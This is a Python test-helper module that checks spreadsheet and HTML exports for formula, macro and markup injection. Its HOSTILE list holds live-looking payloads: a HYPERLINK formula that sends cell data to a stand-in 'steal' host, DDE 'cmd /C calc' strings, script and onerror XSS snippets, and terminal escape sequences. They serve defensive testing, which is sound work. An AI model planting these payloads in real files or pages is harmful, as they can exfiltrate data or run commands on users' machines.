"""Assertions that an output holds the input's text as inert data, for every output format's tests.

    from inert import HOSTILE, assert_no_new_formulas, assert_html_inert

* :data:`HOSTILE`: texts that become live if written carelessly (formulas, DDE, markup, escapes);
* :func:`assert_no_new_formulas`: no cell of an .xlsx is a formula unless the same cell of the
  input was one, and no external link or macro part appears;
* :func:`assert_html_inert`: no hostile markup appears unescaped.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

#: Texts typed into cells by people who mean harm (or by exporters that mean none).
HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    '<script>alert("x")</script>',
    '<img src=x onerror="alert(1)">',
    "\x1b]0;owned\x07\x1b[31mred\x1b[0m",
)


def formula_cells(path: Path) -> set[tuple[str, str]]:
    """(sheet, cell) of every formula in an .xlsx."""
    with path.open("rb") as handle:   # a file object: any name, an .xlsx renamed .xls too
        workbook = load_workbook(handle, read_only=True)
        try:
            return {(ws.title, cell.coordinate) for ws in workbook.worksheets
                    for row in ws.iter_rows() for cell in row if cell.data_type == "f"}
        finally:
            workbook.close()


def _risky_parts(path: Path) -> set[str]:
    with zipfile.ZipFile(path) as archive:
        return {name for name in archive.namelist()
                if name.startswith("xl/externalLinks/") or name.endswith("vbaProject.bin")}


def assert_no_new_formulas(output: Path, original: Path | None = None) -> None:
    """No cell of ``output`` is a formula unless the same cell of ``original`` was one."""
    allowed = formula_cells(original) if original is not None and zipfile.is_zipfile(original) else set()
    added = formula_cells(output) - allowed
    assert not added, f"formulas that were not formulas in the input: {sorted(added)}"
    extra = _risky_parts(output) - (_risky_parts(original) if allowed else set())
    assert not extra, f"live parts that were not in the input: {sorted(extra)}"


def assert_html_inert(text: str, hostile: tuple[str, ...] = HOSTILE) -> None:
    """No hostile text appears unescaped in an HTML page."""
    for value in hostile:
        if "<" in value:
            assert value not in text, f"unescaped markup in the page: {value!r}"
    assert "<script>alert" not in text and "onerror=" not in text.replace("onerror=&#34;", "").replace("onerror=&quot;", "")
